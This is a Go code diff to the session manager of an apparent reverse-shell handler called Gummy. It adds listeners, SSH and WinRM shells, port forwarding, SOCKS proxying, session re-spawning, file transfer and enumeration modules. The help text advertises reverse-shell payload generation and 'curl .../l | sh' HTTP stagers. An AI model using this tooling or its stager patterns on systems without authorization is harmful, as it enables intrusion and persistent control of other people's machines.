+// StartListener starts an additional listener feeding this manager
+// host may be an IP address or a network interface name
+func (m *Manager) StartListener(host string, port int) (*Listener, error) {
+	if !IsValidIP(host) {
+		ip, err := GetIPFromInterface(host)
+		if err != nil {
+			return nil, err
+		}
+		host = ip
+	}
+
+	l := newListener(host, port, m)
+	if err := l.Start(); err != nil {
+		return nil, err
+	}
+
+	return l, nil
+}
+
+// StopListener stops the listener with the given ID
+func (m *Manager) StopListener(id int) error {
+	m.mu.RLock()
+	l, exists := m.listeners[id]
+	m.mu.RUnlock()
+
+	if !exists {
+		return fmt.Errorf("listener %d not found", id)
+	}
+
+	// The primary listener backs the default payload address
+	if l.PayloadIP() == m.listenerIP && l.port == m.listenerPort {
+		return fmt.Errorf("cannot stop the primary listener")
+	}
+
+	return l.Stop()
+}
+
+// GetListeners returns all running listeners ordered by ID
+func (m *Manager) GetListeners() []*Listener {
+	m.mu.RLock()
+	defer m.mu.RUnlock()
+
+	listeners := make([]*Listener, 0, len(m.listeners))
+	for _, l := range m.listeners {
+		listeners = append(listeners, l)
+	}
+	sort.Slice(listeners, func(i, j int) bool {
+		return listeners[i].id < listeners[j].id
+	})
+
+	return listeners
+}
+
+// ListListeners mostra todos os listeners ativos
+func (m *Manager) ListListeners() {
+	listeners := m.GetListeners()
+	if len(listeners) == 0 {
+		fmt.Println(ui.Info("No active listeners"))
+		return
+	}
+
+	// Count sessions per listener
+	m.mu.RLock()
+	counts := make(map[int]int)
+	for _, session := range m.sessions {
+		if session.Listener != nil {
+			counts[session.Listener.id]++
+		}
+	}
+	m.mu.RUnlock()
+
+	var lines []string
+	lines = append(lines, ui.TableHeader("id  bind address          payload address       sessions"))
+	for _, l := range listeners {
+		bind := fmt.Sprintf("%s:%d", l.host, l.port)
+		lines = append(lines, ui.Command(fmt.Sprintf("%-3d %-21s %-21s %d", l.id, bind, l.Address(), counts[l.id])))
+	}
+
+	fmt.Println(ui.BoxWithTitle(fmt.Sprintf("%s Active Listeners", ui.SymbolGem), lines))
+}
+
+// resolveListener returns the payload IP and port for the given listener ID
+// ID 0 selects the primary listener
+func (m *Manager) resolveListener(id int) (string, int, error) {
+	if id == 0 {
+		return m.listenerIP, m.listenerPort, nil
+	}
+
+	m.mu.RLock()
+	l, exists := m.listeners[id]
+	m.mu.RUnlock()
+
+	if !exists {
+		return "", 0, fmt.Errorf("listener %d not found", id)
+	}
+
+	return l.PayloadIP(), l.port, nil
+}
+
+// AddSession adiciona uma nova sessão ao gerenciador
+// listener é o Listener que aceitou a conexão (nil para bind shells)
+func (m *Manager) AddSession(id string, conn net.Conn, remoteIP string, listener *Listener) {
+	// O mux passa a ser o único leitor da conexão; todo o resto usa o mux
+	mux := NewSessionMux(conn)
+	handler := NewHandler(mux, id)
 
 	// Configure callback para quando conexão fechar
 	handler.SetCloseCallback(func(sessionID string) {
 		m.RemoveSession(sessionID)
 	})
 
+	// Shells SSH já chegam com PTY: sem upgrade, o resize vai pelo próprio canal
+	sshConn, isSSH := conn.(*SSHConn)
+	if isSSH {
+		handler.SetNativePTY(sshConn.Resize)
+	}
+	_, isWinRM := conn.(*WinRMConn)
+
 	session := &SessionInfo{
 		ID:        id,
-		NumID:     m.nextID,
-		Conn:      conn,
+		Conn:      mux,
+		Mux:       mux,
 		RemoteIP:  remoteIP,
-		Whoami:    "detecting...",
-		Platform:  "detecting...",
+		Listener:  listener,
+		manager:   m,
 		Handler:   handler,
 		Active:    false,
+		SSH:       isSSH,
+		WinRM:     isWinRM,
 		CreatedAt: time.Now(),
+		whoami:    "detecting...",
+		platform:  "detecting...",
 	}
 
+	// PTYs upgradeados são redimensionados pelo canal de controle, não pela shell
+	if !isSSH {
+		handler.SetControlResize(session.resizeTTY)
+	}
+
+	// A sessão aparece como "detecting..." enquanto o probe roda
+	m.mu.Lock()
+	session.NumID = m.nextID
 	m.sessions[id] = session
 	m.nextID++
+	m.mu.Unlock()
 
-	// Detecta whoami e platform SINCRONAMENTE antes de iniciar handler
-	// Isso garante que Platform está definido antes de Start() decidir sobre raw mode
+	// O probe leva segundos: roda fora do lock para não travar o menu e as outras sessões
+	// 'use' recusa a sessão até Detected(), então Start() sempre vê a platform certa
 	m.detectSessionInfo(session)
 
+	m.mu.Lock()
+	defer m.mu.Unlock()
+
+	// A sessão pode ter caído (ou sido morta) durante o probe
+	if _, alive := m.sessions[id]; !alive {
+		return
+	}
+
 	// Configura platform no handler ANTES de qualquer uso
-	handler.SetPlatform(session.Platform)
+	handler.SetPlatform(session.Platform())
+
+	// Inicia transcript da sessão (depois da detecção, pois o diretório usa whoami)
+	if logger, err := NewSessionLogger(session); err == nil {
+		session.Logger = logger
+		handler.SetLogger(logger)
+	} else if !m.silent {
+		fmt.Printf("\r%s\n", ui.Warning(fmt.Sprintf("Session logging disabled: %v", err)))
+	}
 
 	// Inicia monitoramento da sessão
 	go m.monitorSession(session)
 
+	// Canal de controle em background: transfers e módulos não disputam a shell
+	if CurrentSettings().Control && controlSupported(session) {
+		go func() {
+			if err := m.spawnControl(session); err != nil && !m.silent {
+				m.notify(ui.Warning(fmt.Sprintf("No control channel for session %d: %v", session.NumID, err)))
+			}
+		}()
+	}
+
 	// Only print if not in silent mode
 	if !m.silent {
+		notification := ui.SessionOpened(session.NumID, remoteIP)
+		if isSSH {
+			notification = ui.SSHSessionOpened(session.NumID, remoteIP)
+		} else if isWinRM {
+			notification = ui.WinRMSessionOpened(session.NumID, remoteIP)
+		} else if listener == nil {
+			notification = ui.BindSessionOpened(session.NumID, remoteIP)
+		}
+
 		if m.menuActive {
 			// Se estivermos no menu, quebrar a linha atual, mostrar notificação e novo prompt
-			fmt.Printf("\r%s\n%s", ui.SessionOpened(session.NumID, remoteIP), ui.Prompt())
+			fmt.Printf("\r%s\n%s", notification, ui.Prompt())
 		} else {
 			// Se estivermos em uma shell interativa, apenas quebrar linha e mostrar notificação
 			// Deixa o usuário continuar na shell atual (pode apertar Enter para novo prompt)
-			fmt.Printf("\r\n%s\n", ui.SessionOpened(session.NumID, remoteIP))
+			fmt.Printf("\r\n%s\n", notification)
 		}
 	}
+
+	// Um alvo novo já pode estar abaixo do mínimo do maintain
+	go m.checkMaintain(maintainTarget(session))
 }
 
 // RemoveSession remove uma sessão do gerenciador
@@ -832,6 +1031,18 @@ func (m *Manager) RemoveSession(id string) {
 	}
 
 	delete(m.sessions, id)
+	session.Logger.Close()
+	session.closeControl()
+
+	// Port forwards dependem da sessão
+	if n := m.closeSessionForwards(session); n > 0 {
+		fmt.Println(ui.Warning(fmt.Sprintf("Closed %d port forward(s) of session %d", n, session.NumID)))
+	}
+
+	// Maintain mode: repõe sessões perdidas através de uma sessão irmã
+	if m.maintainRequiredLocked(maintainTarget(session)) > 0 {
+		go m.checkMaintain(maintainTarget(session))
+	}
 
 	// Se era a sessão ativa, voltar ao menu
 	if session.Active {
@@ -857,7 +1068,7 @@ func (m *Manager) ListSessions() {
 
 	// Collect all session lines
 	var lines []string
-	lines = append(lines, ui.TableHeader("id  remote address     whoami                    platform"))
+	lines = append(lines, ui.TableHeader("id  remote address     whoami                    system           arch   shell       listener"))
 
 	// Ordenar por NumID para exibição consistente
 	var sessions []*SessionInfo
@@ -869,12 +1080,41 @@ func (m *Manager) ListSessions() {
 	})
 
 	for _, session := range sessions {
-		sessionLine := fmt.Sprintf("%-3d %-18s %-25s %s", session.NumID, session.RemoteIP, session.Whoami, session.Platform)
+		listenerAddr := "bind"
+		if session.SSH {
+			listenerAddr = "ssh"
+		} else if session.WinRM {
+			listenerAddr = "winrm"
+		} else if session.Listener != nil {
+			listenerAddr = session.Listener.Address()
+		}
+		facts := session.Facts()
+		system := facts.System()
+		if system == "" {
+			system = session.Platform()
+		}
+		if len(system) > 16 {
+			system = system[:16]
+		}
+		arch := facts.Arch
+		if arch == "" {
+			arch = "-"
+		}
+		shell := facts.Shell
+		if shell == "" {
+			shell = "-"
+		}
+		sessionLine := fmt.Sprintf("%-3d %-18s %-25s %-16s %-6s %-11s %s", session.NumID, session.RemoteIP, session.Whoami(), system, arch, shell, listenerAddr)
 		if session.Active {
 			lines = append(lines, ui.SessionActive(sessionLine))
 		} else {
 			lines = append(lines, ui.SessionInactive(sessionLine))
 		}
+
+		// Canal de controle pareado aparece logo abaixo da sessão
+		if ctl := session.ControlSession(); ctl != session {
+			lines = append(lines, ui.SessionInactive(fmt.Sprintf("    └─ %-18s control channel", ctl.RemoteIP)))
+		}
 	}
 
 	// Render everything inside a box
@@ -897,6 +1137,10 @@ func (m *Manager) UseSession(numID int) error {
 	if targetSession == nil {
 		return fmt.Errorf("session %d not found", numID)
 	}
+	if !targetSession.Detected() {
+		fmt.Println(ui.Warning(fmt.Sprintf("Session %d is still being detected", numID)))
+		return fmt.Errorf("session %d is still being detected", numID)
+	}
 
 	// Testa se a sessão está viva antes de selecioná-la
 	targetSession.Conn.SetWriteDeadline(time.Now().Add(1 * time.Second))
@@ -941,7 +1185,12 @@ func (m *Manager) KillSession(numID int) error {
 		return fmt.Errorf("session %d not found", numID)
 	}
 
-	// Fecha a conexão
+	// Mata os relays de port forward no alvo e fecha o lado local
+	m.killSessionForwards(targetSession)
+	m.closeSessionForwards(targetSession)
+
+	// Fecha a conexão (e o canal de controle pareado)
+	targetSession.closeControl()
 	targetSession.Conn.Close()
 
 	// Se era a sessão selecionada, limpa seleção
@@ -951,6 +1200,7 @@ func (m *Manager) KillSession(numID int) error {
 
 	// Remove da lista
 	delete(m.sessions, targetSession.ID)
+	targetSession.Logger.Close()
 
 	fmt.Println(ui.SessionClosed(targetSession.NumID, targetSession.RemoteIP))
 
@@ -969,8 +1219,16 @@ func (m *Manager) handleModulesList() {
 
 	var lines []string
 
-	// Explicit category order (Linux, Windows, Misc, Custom)
+	// Explicit category order (Linux, Windows, Misc, Custom), then user categories
 	categoryOrder := []string{"linux", "windows", "misc", "custom"}
+	var extra []string
+	for cat := range categories {
+		if !slices.Contains(categoryOrder, cat) {
+			extra = append(extra, cat)
+		}
+	}
+	sort.Strings(extra)
+	categoryOrder = append(categoryOrder, extra...)
 
 	// Build module list grouped by category
 	for _, cat := range categoryOrder {
@@ -982,6 +1240,9 @@ func (m *Manager) handleModulesList() {
 		for _, mod := range categories[cat] {
 			modeSymbol := ui.ExecutionModeSymbol(mod.ExecutionMode())
 			line := fmt.Sprintf("%s %-15s - %s", modeSymbol, mod.Name(), mod.Description())
+			if status := cacheStatus(moduleSourceURLs(mod)); status != "" {
+				line += " " + status
+			}
 			lines = append(lines, ui.Command(line))
 		}
 		lines = append(lines, "")
@@ -1023,12 +1284,13 @@ func (m *Manager) handleRunModule(moduleName string, args []string) {
 	}
 }
 
-// detectSessionInfo detecta user@host e plataforma da sessão
+// detectSessionInfo identifica a shell e coleta os HostFacts da sessão
 func (m *Manager) detectSessionInfo(session *SessionInfo) {
 	// Aguarda shell enviar algo
 	time.Sleep(1000 * time.Millisecond)
 
 	// Lê o que tiver disponível (com múltiplas tentativas)
+	// O prompt inicial só serve de pista caso a shell não responda ao probe
 	initialPrompt := ""
 	buffer := make([]byte, 4096)
 
@@ -1056,153 +1318,14 @@ func (m *Manager) detectSessionInfo(session *SessionInfo) {
 		time.Sleep(300 * time.Millisecond)
 	}
 
-	// Detecta platform baseado no prompt recebido
-	detectedPlatform := "unknown"
-
-	if strings.Contains(initialPrompt, "PS ") || strings.Contains(initialPrompt, "C:\\") || strings.Contains(initialPrompt, "C:/") {
-		detectedPlatform = "windows"
-	} else if strings.Contains(initialPrompt, "$") || strings.Contains(initialPrompt, "#") {
-		detectedPlatform = "linux"
-	}
-
-	session.Platform = detectedPlatform
-
-	// Para Windows, tenta comando diferente que funcione com WinRM reverse shells
-	var detectionCmd string
-	if detectedPlatform == "windows" {
-		detectionCmd = "echo $env:USERNAME@$env:COMPUTERNAME\r\n"
-	} else {
-		detectionCmd = "echo $(whoami 2>/dev/null)@$(hostname 2>/dev/null)\n"
-	}
-
-	_, err := session.Conn.Write([]byte(detectionCmd))
-	if err != nil {
-		session.Whoami = "unknown"
-		return
-	}
-
-	// Aguarda execução
-	time.Sleep(800 * time.Millisecond)
-
-	// Lê toda a resposta em múltiplas tentativas com timeout curto
-	allData := ""
-	readBuffer := make([]byte, 2048)
-	foundWhoami := false
-	foundPlatform := false
-
-	// IMPORTANTE: verifica se já detectamos platform pelo prompt inicial
-	if detectedPlatform != "unknown" {
-		foundPlatform = true
-	}
-
-	for i := 0; i < 20; i++ { // mais tentativas
-		// Timeout curto por tentativa (não timeout total)
-		session.Conn.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
-		n, err := session.Conn.Read(readBuffer)
-
-		if err != nil {
-			// Se é timeout mas já encontramos tudo, pode sair
-			if foundWhoami && foundPlatform {
-				break
-			}
-			// Se é timeout mas já lemos algo, continua tentando
-			if len(allData) > 0 {
-				time.Sleep(200 * time.Millisecond)
-				continue
-			}
-			// Timeout no primeiro read = falha real
-			if i == 0 {
-				session.Whoami = "unknown"
-				session.Platform = "unknown"
-				return
-			}
-			break
-		}
-
-		chunk := string(readBuffer[:n])
-		allData += chunk
-
-		// Se temos pelo menos uma linha completa, processa
-		if strings.Contains(allData, "\n") {
-			lines := strings.Split(allData, "\n")
-			for _, line := range lines {
-				line = strings.TrimSpace(line)
-
-				// Detecta whoami
-				if !foundWhoami && strings.Contains(line, "@") &&
-					!strings.Contains(line, "echo") &&
-					!strings.Contains(line, "whoami") &&
-					!strings.Contains(line, "hostname") &&
-					!strings.Contains(line, "USERNAME") &&
-					!strings.Contains(line, "COMPUTERNAME") &&
-					!strings.Contains(line, "$") &&
-					!strings.Contains(line, "%") {
-
-					// Limpa a linha
-					cleaned := strings.ReplaceAll(line, "\r", "")
-					cleaned = strings.TrimSpace(cleaned)
-
-					// Valida formato básico: palavra@palavra
-					parts := strings.Split(cleaned, "@")
-					if len(parts) == 2 && len(parts[0]) > 0 && len(parts[1]) > 0 && len(cleaned) < 50 {
-						session.Whoami = cleaned
-						foundWhoami = true
-					}
-				}
-
-				// Detecta plataforma
-				if !foundPlatform {
-					lowerLine := strings.ToLower(line)
-					if strings.Contains(lowerLine, "linux") {
-						session.Platform = "linux"
-						foundPlatform = true
-					} else if strings.Contains(lowerLine, "windows") {
-						session.Platform = "windows"
-						foundPlatform = true
-					} else if strings.Contains(lowerLine, "darwin") {
-						session.Platform = "macos"
-						foundPlatform = true
-					}
-				}
-
-				// Se encontrou ambos, drena restante e termina
-				if foundWhoami && foundPlatform {
-					// Drena o restante SINCRONAMENTE (importante!)
-					// Isso garante que quando Start() é chamado, não há mais output de detecção
-					time.Sleep(200 * time.Millisecond)
-					drainBuffer := make([]byte, 4096)
-					session.Conn.SetReadDeadline(time.Now().Add(500 * time.Millisecond))
-					for {
-						n, err := session.Conn.Read(drainBuffer)
-						if err != nil || n == 0 {
-							break
-						}
-					}
-					session.Conn.SetReadDeadline(time.Time{})
-					return
-				}
-			}
-		}
-
-		// Pequena pausa entre tentativas
-		time.Sleep(100 * time.Millisecond)
-	}
-
-	// Remove timeout
-	session.Conn.SetReadDeadline(time.Time{})
-
-	if !foundWhoami {
-		session.Whoami = "unknown"
-	}
-	if !foundPlatform && session.Platform == "detecting..." {
-		session.Platform = "unknown"
-	}
+	// Probe: identifica a shell, define a sintaxe do mux e coleta os fatos
+	session.setFacts(probeHostFacts(session.Mux, initialPrompt))
 }
 
 // monitorSession monitora a saúde da sessão em background
 func (m *Manager) monitorSession(session *SessionInfo) {
 	for {
-		time.Sleep(5 * time.Second) // Verifica a cada 5 segundos
+		time.Sleep(CurrentSettings().MonitorInterval) // Intervalo configurável (monitor_interval)
 
 		// Verifica se a sessão ainda existe
 		m.mu.RLock()
@@ -1213,12 +1336,12 @@ func (m *Manager) monitorSession(session *SessionInfo) {
 			return // Sessão foi removida, para o monitoramento
 		}
 
-		// Testa se a conexão está viva
+		// Testa se a conexão está viva (o mux detecta EOF na leitura)
 		session.Conn.SetWriteDeadline(time.Now().Add(1 * time.Second))
 		_, err := session.Conn.Write([]byte{})
 		session.Conn.SetWriteDeadline(time.Time{})
 
-		if err != nil {
+		if err != nil || session.Mux.Closed() {
 			// Conexão morta, remove a sessão
 			fmt.Printf("\r\n%s\r\n", ui.SessionClosed(session.NumID, session.RemoteIP))
 			m.RemoveSession(session.ID)
@@ -1261,6 +1384,9 @@ func (m *Manager) ShellSession() error {
 	fmt.Println(ui.Info("Entering interactive shell"))
 	fmt.Println(ui.CommandHelp("Press F12 to return to menu"))
 
+	// Prompts deixados por comandos em background não interessam, só o atual
+	targetSession.Mux.TrimInteractive()
+
 	// Inicia shell handler (bloqueia até sair)
 	err := targetSession.Handler.Start()
 
@@ -1274,6 +1400,9 @@ func (m *Manager) ShellSession() error {
 	sessionCount := len(m.sessions)
 	m.mu.Unlock()
 
+	// O maintain não usa a sessão interativa: respawns adiados saem agora
+	m.checkAllMaintain()
+
 	// Limpa buffer stdin antes de voltar ao menu
 	m.flushStdin()
 
@@ -1301,7 +1430,7 @@ func (m *Manager) StartMenu() {
 	rl, err := readline.NewEx(&readline.Config{
 		HistoryFile:            historyFile,
 		HistoryLimit:           1000,
-		DisableAutoSaveHistory: false,
+		DisableAutoSaveHistory: true, // Salvo no loop, sem senhas (keepInHistory)
 		InterruptPrompt:        "^C",
 		EOFPrompt:              "",
 		HistorySearchFold:      true,
@@ -1341,12 +1470,26 @@ func (m *Manager) StartMenu() {
 			if command == "" {
 				continue
 			}
+			if keepInHistory(command) {
+				rl.SaveHistory(line)
+			}
 
 			m.handleCommand(command)
 		}
 	}
 }
 
+// keepInHistory reports whether a command can be saved to ~/.gummy/history
+// Passwords given with -pw (ssh, winrm) stay out of it
+func keepInHistory(command string) bool {
+	for _, field := range strings.Fields(command) {
+		if field == "-pw" {
+			return false
+		}
+	}
+	return true
+}
+
 // startMenuBasic is a fallback for when readline fails
 func (m *Manager) startMenuBasic() {
 	for {
@@ -1380,31 +1523,91 @@ func (m *Manager) handleCommand(command string) {
 	case "help", "h":
 		m.showHelp()
 	case "spawn":
-		m.handleSpawn()
-	case "ssh":
-		if len(parts) < 2 {
-			fmt.Println(ui.CommandHelp("Usage: ssh user@host"))
+		// Optional: spawn [-l <listener_id>]
+		listenerID, _, err := parseListenerFlag(parts[1:])
+		if err != nil {
+			fmt.Println(ui.Error(err.Error()))
 			return
 		}
-		m.handleSSH(parts[1])
+		m.handleSpawn(listenerID)
+	case "ssh":
+		m.handleSSH(parts[1:])
+	case "winrm":
+		m.handleWinRM(parts[1:])
 	case "rev":
-		// Optional: rev [ip] [port]
-		ip := m.listenerIP
-		port := m.listenerPort
-
-		if len(parts) >= 2 {
-			ip = parts[1]
+		// Optional: rev [ip] [port] or rev -l <listener_id>, filtered with --lang/--platform/--encode
+		options, args, err := parseRevFlags(parts[1:])
+		if err != nil {
+			fmt.Println(ui.Error(err.Error()))
+			return
 		}
-		if len(parts) >= 3 {
-			customPort, err := strconv.Atoi(parts[2])
+		listenerID, args, err := parseListenerFlag(args)
+		if err != nil {
+			fmt.Println(ui.Error(err.Error()))
+			return
+		}
+
+		ip, port, err := m.resolveListener(listenerID)
+		if err != nil {
+			fmt.Println(ui.Error(err.Error()))
+			return
+		}
+
+		if len(args) >= 1 {
+			ip = args[0]
+		}
+		if len(args) >= 2 {
+			customPort, err := strconv.Atoi(args[1])
 			if err != nil {
-				fmt.Println(ui.Error(fmt.Sprintf("Invalid port: %s", parts[2])))
+				fmt.Println(ui.Error(fmt.Sprintf("Invalid port: %s", args[1])))
 				return
 			}
 			port = customPort
 		}
 
-		m.handleRev(ip, port)
+		m.handleRev(ip, port, options)
+	case "listeners":
+		m.handleListeners(parts[1:])
+	case "socks":
+		m.handleSocks(parts[1:])
+	case "portfwd":
+		m.handlePortFwd(parts[1:])
+	case "maintain":
+		m.handleMaintain(parts[1:])
+	case "control":
+		m.handleControl(parts[1:])
+	case "info":
+		m.handleInfo(parts[1:])
+	case "http":
+		m.handleHTTP(parts[1:])
+	case "stager":
+		m.handleStager(parts[1:])
+	case "replay":
+		if len(parts) < 2 {
+			fmt.Println(ui.CommandHelp("Usage: replay <session_id|file.cast> [speed]"))
+			return
+		}
+		speed := 1.0
+		if len(parts) >= 3 {
+			s, err := strconv.ParseFloat(parts[2], 64)
+			if err != nil || s <= 0 {
+				fmt.Println(ui.Error(fmt.Sprintf("Invalid speed: %s", parts[2])))
+				return
+			}
+			speed = s
+		}
+		m.handleReplay(parts[1], speed)
+	case "connect":
+		if len(parts) < 3 {
+			fmt.Println(ui.CommandHelp("Usage: connect <host> <port>"))
+			return
+		}
+		port, err := strconv.Atoi(parts[2])
+		if err != nil || port < 1 || port > 65535 {
+			fmt.Println(ui.Error(fmt.Sprintf("Invalid port: %s", parts[2])))
+			return
+		}
+		m.handleConnect(parts[1], port)
 	case "sessions", "list", "ls":
 		m.ListSessions()
 	case "use":
@@ -1456,27 +1659,29 @@ func (m *Manager) handleCommand(command string) {
 	case "clear", "cls":
 		fmt.Print("\033[2J\033[H")
 	case "upload":
-		if len(parts) < 2 {
-			fmt.Println(ui.CommandHelp("Usage: upload <local_path> [remote_path]"))
+		recursive, args := parseRecursiveFlag(parts[1:])
+		if len(args) < 1 {
+			fmt.Println(ui.CommandHelp("Usage: upload [-r] <local_path> [remote_path]"))
 			return
 		}
 		remotePath := ""
-		if len(parts) >= 3 {
-			remotePath = parts[2]
+		if len(args) >= 2 {
+			remotePath = args[1]
 		}
-		m.handleUpload(parts[1], remotePath)
+		m.handleUpload(args[0], remotePath, recursive)
 	case "download":
-		if len(parts) < 2 {
-			fmt.Println(ui.CommandHelp("Usage: download <remote_path> [local_path]"))
+		recursive, args := parseRecursiveFlag(parts[1:])
+		if len(args) < 1 {
+			fmt.Println(ui.CommandHelp("Usage: download [-r] <remote_path|glob> [local_path]"))
 			return
 		}
 		localPath := ""
-		if len(parts) >= 3 {
-			localPath = parts[2]
+		if len(args) >= 2 {
+			localPath = args[1]
 		}
-		m.handleDownload(parts[1], localPath)
+		m.handleDownload(args[0], localPath, recursive)
 	case "modules":
-		m.handleModulesList()
+		m.handleModules(parts[1:])
 	case "run":
 		if len(parts) < 2 {
 			fmt.Println(ui.CommandHelp("Usage: run <module> [args...]"))
@@ -1484,11 +1689,40 @@ func (m *Manager) handleCommand(command string) {
 			return
 		}
 		m.handleRunModule(parts[1], parts[2:])
+	case "jobs":
+		m.handleJobs(parts[1:])
+	case "watch":
+		m.handleWatch(parts[1:])
+	case "viewer":
+		m.handleViewer(parts[1:])
+	case "findings":
+		m.handleFindings(parts[1:])
+	case "set":
+		m.handleSet(parts[1:])
+	case "get":
+		m.handleGet(parts[1:])
 	default:
 		fmt.Println(ui.Warning(fmt.Sprintf("Unknown command: %s (type 'help' for available commands)", parts[0])))
 	}
 }
 
+// notify mostra uma notificação assíncrona sem quebrar o prompt atual
+func (m *Manager) notify(message string) {
+	if m.silent {
+		return
+	}
+
+	if m.menuActive {
+		prompt := ui.Prompt()
+		if m.selectedSession != nil {
+			prompt = ui.PromptWithSession(m.selectedSession.NumID)
+		}
+		fmt.Printf("\r%s\n%s", message, prompt)
+	} else {
+		fmt.Printf("\r\n%s\r\n", message)
+	}
+}
+
 // showMenu mostra o menu principal com sessões ativas
 func (m *Manager) showMenu() {
 	m.ListSessions()
@@ -1501,35 +1735,64 @@ func (m *Manager) showHelp() {
 
 	// Connect category
 	lines = append(lines, ui.CommandHelp("connect"))
-	lines = append(lines, ui.Command("rev [ip] [port]              - Generate reverse shell payloads"))
+	lines = append(lines, ui.Command("rev [ip] [port] | -l <id>    - Generate reverse shell payloads"))
+	lines = append(lines, ui.Command("  --lang|--platform|--encode   - Filter/encode payloads (--encode base64,url,hex,ifs)"))
+	lines = append(lines, ui.Command("stager [on|off]              - Serve short HTTP stagers (curl .../l | sh) on the listeners"))
+	lines = append(lines, ui.Command("connect <host> <port>        - Connect to a bind shell on the target"))
 	lines = append(lines, ui.Command("ssh user@host                - Connect via SSH and execute revshell"))
-	lines = append(lines, ui.Command("winrm                        - Connect via WinRM and execute revshell //TODO"))
+	lines = append(lines, ui.Command("  -pw|-i|-J|-l|--session     - Password, key, jump hosts, listener, SSH shell as session"))
+	lines = append(lines, ui.Command("winrm user@host              - Connect via WinRM and execute revshell"))
+	lines = append(lines, ui.Command("  -pw|-ssl|-basic             - Password, HTTPS, basic auth instead of NTLM"))
+	lines = append(lines, ui.Command("  -l|--session                - Listener, cmd.exe over WinRM as session"))
 	lines = append(lines, "")
 
 	// Handler category
 	lines = append(lines, ui.CommandHelp("handler"))
 	lines = append(lines, ui.Command("sessions, list               - List active sessions"))
+	lines = append(lines, ui.Command("listeners                    - List active listeners"))
+	lines = append(lines, ui.Command("listeners add [host] <port>  - Start an additional listener"))
+	lines = append(lines, ui.Command("listeners stop <id>          - Stop listener with given ID"))
 	lines = append(lines, ui.Command("use <id>                     - Select session with given ID"))
+	lines = append(lines, ui.Command("info [id]                    - Show host facts of a session"))
 	lines = append(lines, ui.Command("kill <id>                    - Kill session with given ID"))
+	lines = append(lines, ui.Command("replay <id|file> [speed]     - Replay a recorded session transcript"))
+	lines = append(lines, ui.Command("maintain [id] [n]            - Keep at least n sessions per target"))
+	lines = append(lines, ui.Command("control [on|off]             - Show or toggle per-session control channels"))
+	lines = append(lines, ui.Command("portfwd add -L|-R <spec>     - Forward ports through session ([bind:]port:host:port)"))
+	lines = append(lines, ui.Command("portfwd [list] | del <id>    - List or remove port forwards"))
+	lines = append(lines, ui.Command("socks [bind:]<port>          - Start a SOCKS5 proxy through session"))
+	lines = append(lines, ui.Command("http [on [port]|off]         - Serve transfers over HTTP instead of the shell"))
 	lines = append(lines, "")
 
 	// Session category
 	lines = append(lines, ui.CommandHelp("session"))
 	lines = append(lines, ui.Command("shell                        - Enter interactive shell"))
-	lines = append(lines, ui.Command("upload <local> [remote]      - Upload file to remote system"))
-	lines = append(lines, ui.Command("download <remote> [local]    - Download file from remote system"))
-	lines = append(lines, ui.Command("spawn                        - Spawn new shell from active session"))
+	lines = append(lines, ui.Command("upload [-r] <local> [remote] - Upload file (or directory) to remote system"))
+	lines = append(lines, ui.Command("download [-r] <remote> [dst] - Download file, directory or glob from remote"))
+	lines = append(lines, ui.Command("spawn [-l <id>]              - Spawn new shell from active session"))
 	lines = append(lines, "")
 
 	// Modules category
 	lines = append(lines, ui.CommandHelp("modules"))
 	lines = append(lines, ui.Command("modules                      - List available modules"))
+	lines = append(lines, ui.Command("modules update [module]      - Refresh the offline module cache"))
+	lines = append(lines, ui.Command("modules pin|unpin <module>   - Pin cached files to their SHA-256"))
+	lines = append(lines, ui.Command("modules cache                - List cached module files"))
+	lines = append(lines, ui.Command("modules reload               - Reload user modules (~/.gummy/modules)"))
 	lines = append(lines, ui.Command("run <module> [args]          - Run a module (e.g., run enum, run lse)"))
+	lines = append(lines, ui.Command("jobs [list]                  - List running and finished module jobs"))
+	lines = append(lines, ui.Command("jobs kill <id> | wait [id]   - Stop a job or wait for jobs to finish"))
+	lines = append(lines, ui.Command("watch [id]                   - Follow a job's output inside gummy"))
+	lines = append(lines, ui.Command("viewer [mode]                - Output viewer: auto, terminal, tmux or inline"))
+	lines = append(lines, ui.Command("findings [id] [severity]     - List findings parsed from peas/lse/pspy output"))
 	lines = append(lines, "")
 
 	// Program category
 	lines = append(lines, ui.CommandHelp("program"))
 	lines = append(lines, ui.Command("help                         - Show this help"))
+	lines = append(lines, ui.Command("get [key]                    - Show settings (~/.gummy/config.toml)"))
+	lines = append(lines, ui.Command("set [--save] <key> <value>   - Change a setting live (--save writes it to the file)"))
+	lines = append(lines, ui.Command("set profile <name|none>      - Switch to a settings profile"))
 	lines = append(lines, ui.Command("clear                        - Clear screen"))
 	lines = append(lines, ui.Command("exit, quit                   - Exit Gummy"))
 
@@ -1583,7 +1846,8 @@ func (m *Manager) flushStdin() {
 }
 
 // handleUpload handles file upload command
-func (m *Manager) handleUpload(localPath, remotePath string) {
+// recursive uploads a whole directory (packed as an archive)
+func (m *Manager) handleUpload(localPath, remotePath string, recursive bool) {
 	// Check if there's a selected session
 	if m.selectedSession == nil {
 		fmt.Println(ui.Error("No session selected. Use 'use <id>' first."))
@@ -1591,37 +1855,48 @@ func (m *Manager) handleUpload(localPath, remotePath string) {
 	}
 
 	// Check if local file exists
-	if _, err := os.Stat(localPath); os.IsNotExist(err) {
+	info, err := os.Stat(localPath)
+	if os.IsNotExist(err) {
 		fmt.Println(ui.Error(fmt.Sprintf("Local file not found: %s", localPath)))
 		return
 	}
+	if err != nil {
+		fmt.Println(ui.Error(fmt.Sprintf("Cannot access %s: %v", localPath, err)))
+		return
+	}
+	if info.IsDir() && !recursive {
+		fmt.Println(ui.Error(fmt.Sprintf("%s is a directory (use upload -r)", localPath)))
+		return
+	}
 
 	// Create transferer
-	t := NewTransferer(m.selectedSession.Conn, m.selectedSession.ID)
+	t := NewTransferer(m.selectedSession)
 
 	// Create context with cancel for ESC handling
 	ctx, cancel := context.WithCancel(context.Background())
 	defer cancel()
 
 	// Start watching for ESC key in background
-	go WatchForCancel(ctx, cancel)
+	defer cancelOnESC(ctx, cancel)()
 
 	// Show hint
 	fmt.Println(ui.CommandHelp("Press ESC to cancel"))
 
 	// Perform upload
-	err := t.Upload(ctx, localPath, remotePath)
+	if recursive && info.IsDir() {
+		err = t.UploadTree(ctx, localPath, remotePath)
+	} else {
+		err = t.Upload(ctx, localPath, remotePath)
+	}
 	if err != nil {
 		fmt.Println(ui.Error(fmt.Sprintf("Upload failed: %v", err)))
-		return
 	}
-
-	// Drain any output from transfer commands
-	t.DrainOutput()
 }
 
 // handleDownload handles file download command
-func (m *Manager) handleDownload(remotePath, localPath string) {
+// recursive downloads a whole directory; globs are always downloaded as an archive
